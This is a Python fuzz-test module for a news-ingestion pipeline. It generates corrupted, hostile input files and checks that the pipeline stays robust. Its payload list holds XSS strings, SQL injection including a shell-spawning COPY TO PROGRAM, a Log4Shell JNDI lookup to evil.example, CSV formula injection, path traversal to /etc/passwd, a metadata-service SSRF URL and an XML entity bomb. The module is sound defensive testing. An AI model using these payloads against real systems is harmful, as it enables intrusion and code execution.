"""Hostile drops, made from a seed, and what must hold of every drop whatever is in it."""

from __future__ import annotations

import base64
import csv
import gzip
import hashlib
import io
import json
import random
import re
import signal
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from types import FrameType

import zstandard

from dropwire.article import Rejected
from dropwire.config import LEXICON
from dropwire.errors import BadItem
from dropwire.link import signature
from dropwire.load.copy import _field
from dropwire.load.rows import Batch
from dropwire.pipeline import FAULT, Pipeline

TRUE = (
    "Quân đội Iraq ngày 6/11/2017 giành lại thị trấn Rawa ở tỉnh Anbar từ tay IS, ít nhất 12 tay súng thiệt mạng. ",
    "Tentara Suriah pada 6 November 2017 merebut kota Umm Haratayn di provinsi Hama dan 15 kombatan tewas. ",
    "The army said on 6 November 2017 that 12 fighters were killed when it retook the town of Rawa from IS. ",
)
EVIL = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>1</script>'>",
    "</textarea></title></style><b>",
    "<!--",
    "<![CDATA[",
    "]]>",
    "<?php ",
    "<%= 1 %>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "%s%n%x{0}",
    "'; DROP TABLE news.articles; --",
    "' OR '1'='1",
    "\\'; COPY news.articles TO PROGRAM 'sh'; --",
    "$$; SELECT 1; $$",
    "\\.\n",
    "\\N",
    '=HYPERLINK("http://evil.example")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tleading",
    "\r\n2026-01-01 00:00:00 ERROR all is lost\r\n",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x9b31m",
    "\x00",
    "\x08\x08\x08",
    "\x7f",
    "\x85",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\ufffe",
    "\uffff",
    "\u202etxt.exe\u202c",
    "\u2066\u2067\u2069",
    "\u200b\u200c\u200d\u2060",
    "\u00ad",
    "a" + "\u0301" * 3000,
    "\U000e0001\U000e0041",
    "👨‍👩‍👧‍👦" * 50,
    "ﷺ" * 200,
    "İıſßŉ",
    "Ａｌｅｒｔ",
    "раураl",
    "\ud800",
    "\udfff",
    "&#0;",
    "&#xD800;",
    "&#x110000;",
    "&#99999999999999999999;",
    "&amp;" * 300,
    "&lt;script&gt;",
    "&notanentity;",
    "<div>" * 3000,
    "</div>" * 3000,
    "<table><tr>" * 500,
    "<p " + "a=1 " * 2000 + ">",
    "<a href='" + "x" * 20000,
    "(" * 5000,
    "“" * 3000,
    '"' * 3000,
    "." * 5000,
    ". " * 3000,
    "- " * 3000,
    "\n" * 5000,
    " " * 20000,
    "\t \n" * 2000,
    "9" * 5000,
    "1.234.567.890.123" * 200,
    "٣٤٥",
    "½ ¼ ²",
    "1e999",
    "-0",
    "0x41",
    "99/99/9999",
    "31/2/2017",
    "ngày 0/0/0000",
    "0000-00-00",
    "29/2/2017 lúc 25:61",
    "pada 6 November 99999",
    "a" * 50000,
    "a!" * 20000,
    "ab " * 20000,
    "Rawa " * 2000,
    "IS IS IS " * 1000,
    "12 người, " * 1500,
    "(Reuters) - " * 500,
    "http://" + "a." * 5000 + "example/",
    "mailto:a@b" * 500,
    "../../../../etc/passwd",
    "C:\\Windows\\System32",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data",
    "+ADw-script+AD4-",
    "\x1b$B",
    "Ã¡Â»â€¡" * 300,
    "á»‹" * 300,
    "â€œ" * 500,
    "date 2017-11 " * 500,
    "Đọc thêm: " * 500,
    "Share\n" * 500,
    "theo Reuters, theo AFP, theo AP, " * 300,
    "ngày 6/11, 7/11, 8/11, " * 500,
    "không phủ nhận việc không " * 300,
    "sáng, trưa, chiều, " * 500,
)
STEERING = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
"""Marks that move a cursor, begin a line or turn its direction."""
SECONDS = 60
"""Of processor time, after which a drop counts as hanging; the slowest takes a fraction of it."""


def drop(seed: int) -> tuple[str, bytes, int | None]:
    """A drop's name, its bytes, and how many items are in it where that is certain."""
    chance = random.Random(seed)
    kind = chance.choice(("txt", "html", "jsonl", "jsonl", "json", "csv", "rss", "warc", "bytes"))
    texts = [_text(chance) for _ in range(chance.randint(1, 3))]
    data, count = _FORMATS[kind](texts, chance)
    if kind == "bytes" or chance.random() < 0.15:
        data, count = _damaged(data, chance), None
    packing = chance.choice(("", "", "", ".gz", ".zst", ".zip"))
    data = _packed(data, packing, kind, chance)
    if packing and chance.random() < 0.2:
        data, count = _damaged(data, chance), None
    return f"2017-11-06/{seed}.{'bin' if kind == 'bytes' else kind}{packing}", data, count


def _text(chance: random.Random) -> str:
    parts = [chance.choice(TRUE), *(chance.choice(EVIL) for _ in range(chance.randint(1, 3))), chance.choice(TRUE)]
    chance.shuffle(parts)
    return chance.choice(("", " ", "\n", "\n\n")).join(parts)


def _plain(texts: list[str], chance: random.Random) -> tuple[bytes, int | None]:
    coding = chance.choice(("utf-8", "utf-8-sig", "utf-16", "utf-32-le", "cp1258", "latin-1", "utf-7"))
    return texts[0].encode(coding, "replace"), None


def _html(texts: list[str], chance: random.Random) -> tuple[bytes, int | None]:
    charset = chance.choice(("utf-8", "utf-16", "x-user-defined", "windows-1258", "nonsense\x00"))
    page = f"<html><head><meta charset='{charset}'><title>{texts[-1]}</title></head><body><article><p>{texts[0]}</p>"
    return page.encode("utf-8", "replace"), None


def _record(text: str, chance: random.Random) -> dict[str, object]:
    odd = (
        [],
        {},
        None,
        -1,
        1e308,
        True,
        "x" * 5000,
        [["a"]],
        {"a": {"b": "c"}},
        *EVIL[:40],
        "2017-99-99",
        "javascript:1",
    )
    record: dict[str, object] = {"title": "Tin", "url": f"https://tin.example/{chance.random()}", "text": text}
    for name in chance.sample(
        ("title", "url", "date", "published", "source", "author", "lang", "id", "__proto__", "site"), 3
    ):
        record[name] = chance.choice(odd)
    return record


def _jsonl(texts: list[str], chance: random.Random) -> tuple[bytes, int | None]:
    lines = [json.dumps(_record(text, chance)) for text in ["dòng đầu", *texts]]  # ASCII: lone surrogates as escapes
    return "\n".join(lines).encode(), len(lines)


def _json(texts: list[str], chance: random.Random) -> tuple[bytes, int | None]:
    deep = "[" * chance.choice((0, 5, 50000))
    return (deep + json.dumps([_record(text, chance) for text in texts])).encode(), None if deep else len(texts)


def _csv(texts: list[str], chance: random.Random) -> tuple[bytes, int | None]:
    out = io.StringIO()
    csv.writer(out).writerows([["title", "text", "url"], *([text[:30], text, chance.choice(EVIL)] for text in texts)])
    return out.getvalue().encode("utf-8", "replace"), None


def _rss(texts: list[str], chance: random.Random) -> tuple[bytes, int | None]:
    bomb = '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>' if chance.random() < 0.3 else ""
    items = "".join(f"<item><title>{text[:40]}</title><description>{text}</description></item>" for text in texts)
    return f"<?xml version='1.0'?>{bomb}<rss version='2.0'><channel>{items}</channel></rss>".encode(
        "utf-8", "replace"
    ), None


def _warc(texts: list[str], chance: random.Random) -> tuple[bytes, int | None]:
    body = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + _html(texts, chance)[0]
    length = chance.choice((len(body), len(body), 0, 10**12))
    head = f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {chance.choice(EVIL[:8])}\r\n"
    head += f"Content-Length: {length}\r\n\r\n"
    return head.encode() + body + b"\r\n\r\n", None


def _bytes(texts: list[str], chance: random.Random) -> tuple[bytes, int | None]:
    return chance.randbytes(chance.randint(1, 3000)) + base64.a85encode(texts[0].encode("utf-8", "replace")), None


_FORMATS = {
    "txt": _plain,
    "html": _html,
    "jsonl": _jsonl,
    "json": _json,
    "csv": _csv,
    "rss": _rss,
    "warc": _warc,
    "bytes": _bytes,
}


def _damaged(data: bytes, chance: random.Random) -> bytes:
    harmed = bytearray(data)
    for _ in range(chance.randint(1, 20)):
        harmed[chance.randrange(len(harmed))] = chance.randrange(256)
    return bytes(harmed[: chance.randint(1, len(harmed))])


def _packed(data: bytes, packing: str, kind: str, chance: random.Random) -> bytes:
    if packing == ".gz":
        return gzip.compress(data, mtime=0)
    if packing == ".zst":
        return zstandard.ZstdCompressor().compress(data)
    if packing == ".zip":
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as packed:
            packed.writestr(f"a.{kind}", data)
        return out.getvalue()
    return data


@contextmanager
def _awake(name: str) -> Iterator[None]:
    def ring(number: int, frame: FrameType | None) -> None:
        raise AssertionError(f"{name} hangs")

    before = signal.signal(signal.SIGPROF, ring)
    signal.setitimer(signal.ITIMER_PROF, SECONDS)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_PROF, 0)
        signal.signal(signal.SIGPROF, before)


def swallow(name: str, data: bytes, count: int | None = None) -> int:
    """Take a drop the way from bytes to rows; how many items were in it.

    Raises:
        AssertionError: it took too long, an item is lost or twice, or the program failed over it.
    """
    seen: dict[int | None, str] = {}
    with _awake(name):
        for found in Pipeline.shared(LEXICON).process(name, io.BytesIO(data), hashlib.sha256(data).hexdigest()):
            batch = Batch(1, "0")
            if isinstance(found, Rejected):
                assert found.rule != FAULT, f"{name}: {found.reason}"
                batch.reject(found)
                where = found.record, "refused"
            else:
                article, events = found
                where = article.item.record, "read"
                for shown in (article.title, article.source, article.author, article.url):
                    assert not STEERING.search(shown or ""), f"{name}: {shown!r} steers whatever shows it"
                try:
                    batch.add(article, events, signature(article.body))
                except BadItem as bad:
                    batch.reject(Rejected(name, article.item.file_sha256, where[0], bad.stage, bad.rule, bad.reason))
            for row in (*batch.articles, *batch.spans, *batch.events, *batch.mentions, *batch.rejects):
                "\t".join(map(_field, row)).encode()
            if not isinstance(found, Rejected):
                assert where[0] not in seen, f"{name}: item {where[0]} twice"
            seen[where[0]] = where[1]
    assert seen, f"{name}: nothing became of it"
    assert count is None or len(seen) == count, f"{name}: {len(seen)} of {count} items"
    return len(seen)
